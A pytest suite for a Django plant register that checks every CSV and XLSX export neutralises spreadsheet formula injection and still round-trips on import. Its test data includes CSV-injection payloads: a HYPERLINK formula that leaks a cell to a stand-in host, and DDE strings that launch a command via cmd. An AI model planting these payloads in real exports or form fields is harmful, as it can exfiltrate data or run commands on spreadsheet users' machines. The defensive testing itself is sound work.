"""Exports safe to open in a spreadsheet: text that a spreadsheet would run as a formula is written with a
leading apostrophe (plant/spreadsheet.py, used by every CSV and XLSX export), numbers stay numbers, and the
register's export still imports back exactly.

The characters (=, +, -, @, tab, carriage return) and the apostrophe prefix are common practice (OWASP,
"CSV Injection").
"""
import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings as hypothesis_settings, strategies as st

from calibration.models import CalibrationEvent
from plant import importer, spreadsheet
from plant.models import Area, Fluid, Device, Site
from plant.installations import commission
from tests.helpers import url_patterns

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
LEADS = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(cell) -> bool:
    """A text cell a spreadsheet would evaluate: starts with a formula character and is not a plain number."""
    return isinstance(cell, str) and cell[:1] in LEADS and not spreadsheet._is_plain_number(cell)


# The rule itself ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_gets_an_apostrophe_and_comes_back(value):
    written = spreadsheet.neutralise(value)
    assert written == "'" + value
    assert not runs_as_formula(written)
    assert spreadsheet.restore(written) == value


@pytest.mark.parametrize("value", ["-1.5", "+2", "-3e-4", "-0", "-.5", "-12.", "+1E+3"])
def test_a_signed_number_written_as_text_stays_a_number(value):
    assert spreadsheet.neutralise(value) == value
    assert spreadsheet.restore(value) == value


@pytest.mark.parametrize("value", [-1.5, -3, 0.0, None, dt.date(2026, 1, 2), True])
def test_values_that_are_not_text_are_untouched(value):
    assert spreadsheet.neutralise(value) is value


@pytest.mark.parametrize("value", ["'=1+1", "''", "'-x", "'", "'abc", "a=b", "", "Steam 10 bar", "1-2"])
def test_apostrophes_of_our_own_round_trip(value):
    assert spreadsheet.restore(spreadsheet.neutralise(value)) == value


@hypothesis_settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a1.eE ")), max_size=6) | st.text(max_size=12))
def test_any_text_round_trips_and_never_runs(value):
    written = spreadsheet.neutralise(value)
    assert spreadsheet.restore(written) == value
    assert not runs_as_formula(written)


# Every export ---------------------------------------------------------------------------------------------------
@pytest.fixture
def hostile_register(db):
    site = Site.objects.create(name="@Site one")
    area = Area.objects.create(site=site, name="-Hall")
    fluid = Fluid.objects.create(name="=HYPERLINK(\"http://example.invalid\")", phase="liquid",
                                 conductivity_us_cm=500, temperature_c=-5.5, notes="+SUM(A1)\nsecond line")
    device = commission(tag="=1+1", principle="electromagnetic", area=area, fluid=fluid, line_size="DN50",
                                 internal_diameter_mm=52.5, range_min=-10, range_max=40, mpe_value=0.5,
                                 mpe_basis="pct_reading", wetted_material="316L", serial="-2+3+cmd|' /C calc'!A0",
                                 maker="@maker", model="'=already quoted")
    return device


def csv_cells(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_csv(rows):
    for row in rows:
        for cell in row:
            assert not runs_as_formula(cell), (cell, row)


def assert_no_formula_xlsx(cells):
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert not runs_as_formula(cell.value), cell.value


@pytest.mark.parametrize("kind", ["meters", "fluids"])
def test_register_csv_is_neutralised_and_imports_back_exactly(hostile_register, client, kind):
    response = client.get(reverse("plant:export-csv"), {"kind": kind})
    rows = csv_cells(response.content)
    assert_no_formula_csv(rows)
    table = [dict(zip(rows[0], row)) for row in rows[1:]]
    if kind == "meters":
        assert table[0]["tag"] == "'=1+1" and table[0]["serial"] == "'-2+3+cmd|' /C calc'!A0"
        assert table[0]["site"] == "'@Site one" and table[0]["area"] == "'-Hall"
        assert table[0]["model"] == "''=already quoted"
        assert table[0]["range_min"] == "-10"  # a negative number stays a number
    else:
        assert table[0]["name"] == "'=HYPERLINK(\"http://example.invalid\")"
        assert table[0]["notes"] == "'+SUM(A1)\nsecond line" and table[0]["temperature_c"] == "-5.5"
    rows_read = importer.read_table(response.content, "export.csv")
    assert rows_read[0][importer.KINDS[kind]["key"]] == ("=1+1" if kind == "meters" else "=HYPERLINK(\"http://example.invalid\")")
    plan = importer.plan_import(kind, rows_read)
    assert plan.ok, plan.errors
    assert [row.action for row in plan.rows] == ["unchanged"]


@pytest.mark.parametrize("kind", ["meters", "fluids"])
def test_register_xlsx_is_neutralised_and_imports_back_exactly(hostile_register, client, kind):
    response = client.get(reverse("plant:export-xlsx"), {"kind": kind})
    cells = xlsx_cells(response.content)
    assert_no_formula_xlsx(cells)
    values = [c.value for c in cells]
    if kind == "meters":
        assert "'=1+1" in values and "'@Site one" in values and "''=already quoted" in values
        assert -10 in values  # range_min written as a number, not as text
    else:
        assert -5.5 in values and "'+SUM(A1)\nsecond line" in values
    plan = importer.plan_import(kind, importer.read_table(response.content, "export.xlsx"))
    assert plan.ok, plan.errors
    assert [row.action for row in plan.rows] == ["unchanged"]


def test_import_of_a_hand_made_file_keeps_an_ordinary_apostrophe(db):
    # only the export's own prefix (apostrophe + formula character or apostrophe) is undone
    rows = importer.read_table(b"name,phase,notes\n'Quoted' water,liquid,'-5 dB'\n", "fluids.csv")
    assert rows[0]["name"] == "'Quoted' water"
    assert rows[0]["notes"] == "-5 dB'"


def test_review_csv_is_neutralised(hostile_register, client):
    today = timezone.localdate()
    Device.objects.filter(pk=hostile_register.pk).update(
        next_due_date=today - dt.timedelta(days=3), predicted_crossing=today - dt.timedelta(days=10),
        drift_status="drifting", drift_rate_per_year=-0.25, last_in_tolerance=False)
    CalibrationEvent.objects.create(device=hostile_register, performed_on=today, technician="=cmd|'/C calc'!A0",
                                    procedure="p")
    for key in ("overdue", "drifting", "failed", "drafts"):
        response = client.get(reverse("reports:review"), {"export": key})
        assert response.status_code == 200, key
        rows = csv_cells(response.content)
        assert_no_formula_csv(rows)
        assert any("'=1+1" in row for row in rows[1:]), (key, rows)
    drifting = csv_cells(client.get(reverse("reports:review"), {"export": "drifting"}).content)
    rate = drifting[0].index("Drift / year (the crossing's slope)")
    # the rate is text with its unit, not a number: a spreadsheet would read "-0.250 % ..." as a broken formula
    assert drifting[1][rate] == "'-0.250 % of reading"
    drafts = csv_cells(client.get(reverse("reports:review"), {"export": "drafts"}).content)
    assert drafts[1][drafts[0].index("Technician")] == "'=cmd|'/C calc'!A0"


def test_statistics_csv_and_xlsx_are_neutralised(hostile_register, client):
    rows = csv_cells(client.get(reverse("reports:stats-csv"), {"by": "fluid"}).content)
    assert_no_formula_csv(rows)
    assert rows[1][0] == "'=HYPERLINK(\"http://example.invalid\")"
    cells = xlsx_cells(client.get(reverse("reports:stats-xlsx")).content)
    assert_no_formula_xlsx(cells)
    assert "'=HYPERLINK(\"http://example.invalid\")" in [c.value for c in cells]


# Every export the site serves, found from the URL configuration ------------------------------------------------
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
FILLED_INT = "0"  # placeholder when the URL's own kind of object is unknown; replaced by each hostile object's id


@pytest.fixture
def hostile_everywhere(db, admin_user):
    """A register whose every printed name starts with one of the four formula characters: site, area, fluid,
    tag, serial, maker, a reviewer's task title, a calibration technician, a maintenance technician."""
    from maintenance.models import MaintenanceRecord, MaintenanceTask

    site = Site.objects.create(name="=Site(1)")
    area = Area.objects.create(site=site, name="+Hall 2")
    fluid = Fluid.objects.create(name="-Brine @ 3 %", phase="liquid", conductivity_us_cm=5000, chlorides=True,
                                 temperature_c=20)
    device = commission(tag="@FT-9", principle="electromagnetic", area=area, fluid=fluid, line_size="DN50",
                       internal_diameter_mm=52.5, range_min=0, range_max=40, mpe_value=0.5,
                       mpe_basis="pct_reading", wetted_material="316L", serial="+SN 77", maker="@maker",
                       model="=M1")
    task = MaintenanceTask.objects.create(device=device, code="CUSTOM", title="=Rod out the ports", reason="+fouling",
                                          origin=MaintenanceTask.Origin.REVIEWER, base_days=30)
    today = site.today()
    record = MaintenanceRecord.objects.create(device=device, task=task, performed_on=today, technician="=tech",
                                              condition="heavy_deposit", action="-rodded", minutes_spent=20,
                                              created_by=admin_user)
    record.sign(by="@signer")
    MaintenanceTask.objects.filter(device=device).update(next_due_date=today - dt.timedelta(days=2))
    CalibrationEvent.objects.create(device=device, performed_on=today, technician="@cal tech", procedure="=p")
    Device.objects.filter(pk=device.pk).update(
        next_due_date=today - dt.timedelta(days=3), predicted_crossing=today - dt.timedelta(days=10),
        drift_status="drifting", drift_rate_per_year=-0.25, last_in_tolerance=False)
    return {"device": device, "ids": [device.pk, fluid.pk, area.pk, site.pk, task.pk, record.pk,
                                    CalibrationEvent.objects.get(device=device).pk]}


def concrete_urls(route, tag, ids):
    """The route with its arguments filled: a tag with the hostile tag, an id with each hostile object's id in
    turn (the route does not say which model it names; a wrong one gives 404 and is passed over)."""
    import re

    placeholder = re.compile(r"<(?:(\w+):)?(\w+)>")
    has_id = any(conv not in (None, "str", "slug", "path") for conv, _ in placeholder.findall(route))
    for value in (ids if has_id else [None]):
        def fill(match, value=value):
            converter, name = match.groups()
            return tag if name == "tag" else ("x" if converter in (None, "str", "slug", "path") else str(value))
        yield "/" + placeholder.sub(fill, route)


def same_site_links(html: str, base: str):
    from html.parser import HTMLParser
    from urllib.parse import urljoin, urlsplit

    found = []

    class Links(HTMLParser):
        def handle_starttag(self, name, attrs):
            href = dict(attrs).get("href")
            if name == "a" and href and not href.startswith(("#", "mailto:", "javascript:")):
                parts = urlsplit(urljoin("http://testserver" + base, href))
                if parts.netloc == "testserver":
                    found.append(parts.path + ("?" + parts.query if parts.query else ""))

    Links().feed(html)
    return found


def test_every_export_of_the_site_writes_no_formula(hostile_everywhere, client):
    """Walk the URL configuration; fetch every URL (arguments filled from the hostile register) and every
    same-site link on the pages it gives, as an administrator; whatever comes back as CSV or XLSX is an
    export and must hold no cell a spreadsheet would run."""
    from django.urls import resolve
    from urllib.parse import quote

    tag = quote(hostile_everywhere["device"].position.tag)
    seen, exports = set(), {}

    def fetch(url):
        """The page's links when it is an HTML page; records it when it is an export."""
        seen.add(url)
        response = client.get(url)
        kind = response.get("Content-Type", "").split(";")[0]
        if kind in SPREADSHEET_TYPES:
            exports[url] = (kind, response.content)
        elif kind == "text/html" and response.status_code == 200:
            return same_site_links(response.content.decode(), url)
        return []

    linked = []
    for route, _ in url_patterns():
        for url in concrete_urls(route, tag, hostile_everywhere["ids"]):
            if url not in seen:
                linked.extend(fetch(url))
    for url in dict.fromkeys(linked):  # one step only: an export reached with a query (?export=, ?by=, ?kind=)
        if url not in seen:
            fetch(url)
    views = {resolve(url.split("?")[0]).view_name for url in exports}
    # the three that once skipped the safety module must be among what the walk found, besides the others
    assert {"maintenance:stats-csv", "maintenance:stats-xlsx", "maintenance:worklist-csv"} <= views, views
    assert {"plant:export-csv", "plant:export-xlsx", "reports:stats-csv", "reports:stats-xlsx", "reports:review"} <= views
    printed = {"=Site(1)", "+Hall 2", "-Brine @ 3 %", "@FT-9", "=Rod out the ports", "@cal tech"}
    shown, quoting_views = set(), set()
    for url, (kind, content) in exports.items():
        if kind == "text/csv":
            rows = csv_cells(content)
            assert_no_formula_csv(rows)
            values = [cell for row in rows for cell in row]
        else:
            cells = xlsx_cells(content)
            assert_no_formula_xlsx(cells)
            values = [cell.value for cell in cells]
        shown |= {spreadsheet.restore(v) for v in values if isinstance(v, str)} & printed
        if any(isinstance(v, str) and v[:2] in {"'" + c for c in "=+-@"} for v in values):
            quoting_views.add(resolve(url.split("?")[0]).view_name)
    assert shown == printed, printed - shown  # each hostile name went through at least one export
    assert quoting_views == views  # and each export printed at least one of them (with its apostrophe)
